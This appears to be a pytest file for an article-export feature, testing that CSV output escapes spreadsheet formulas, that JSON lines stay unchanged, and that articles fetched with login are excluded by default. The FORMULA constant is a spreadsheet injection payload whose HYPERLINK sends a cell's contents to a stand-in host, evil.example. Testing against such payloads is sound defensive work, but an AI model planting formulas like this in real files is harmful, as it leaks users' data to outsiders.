import csv
import io
import json
from datetime import UTC, datetime
from functools import partial

from tests.factories import make_article

from tidings.engine.exporting.article_export import WITH_LOGIN, ExportFilter, export_articles
from tidings.model.articles.article import Article
from tidings.read.url import article_id
from tidings.store.database.database import Database
from tidings.store.tables.articles.articles import keep_article

NOW = datetime(2026, 1, 2, tzinfo=UTC)
FORMULA = '=HYPERLINK("https://evil.example/"&A1,"ferry")'


def _exported(database: Database, form: str) -> str:
    url = "https://a.example/ferry"
    kept = Article(
        article_id(url), url, "a.example", FORMULA, "-2+3 ferries sail", "", "", None,
        None, NOW, ("Ann",), "en", "", ("@SUM(1)", "harbour"), None, "", 3,
    )  # fmt: skip
    database.write(lambda db: keep_article(db, kept, NOW)).result()
    sink = io.BytesIO()
    export_articles(database, ExportFilter(), form, sink, lambda _: None)
    return sink.getvalue().decode()


def test_no_cell_of_a_csv_file_is_a_formula(database: Database) -> None:
    (row,) = csv.DictReader(io.StringIO(_exported(database, "csv")))
    assert row["title"] == f"'{FORMULA}"
    assert (row["text"], row["tags"]) == ("'-2+3 ferries sail", "'@SUM(1); harbour")
    assert (row["authors"], row["language"]) == ("Ann", "en")


def test_json_lines_keep_every_text_unchanged(database: Database) -> None:
    exported = json.loads(_exported(database, "jsonl"))
    assert (exported["title"], exported["tags"]) == (FORMULA, ["@SUM(1)", "harbour"])


def test_what_was_fetched_with_credentials_is_left_out_and_counted(database: Database) -> None:
    for name, with_login in (("free", False), ("paid", True)):
        kept = make_article(f"https://a.example/{name}", name, name, with_login=with_login)
        database.write(partial(keep_article, article=kept, now=NOW)).result()
    for form in ("jsonl", "csv"):
        sink = io.BytesIO()
        counts = export_articles(database, ExportFilter(), form, sink, lambda _: None)
        assert (counts.written, counts.left_out[WITH_LOGIN]) == (1, 1)
        assert b"paid" not in sink.getvalue()
        told = ExportFilter(with_subscriptions=True)
        assert export_articles(database, told, form, sink, lambda _: None).written == 2
        assert b"https://a.example/paid" in sink.getvalue()
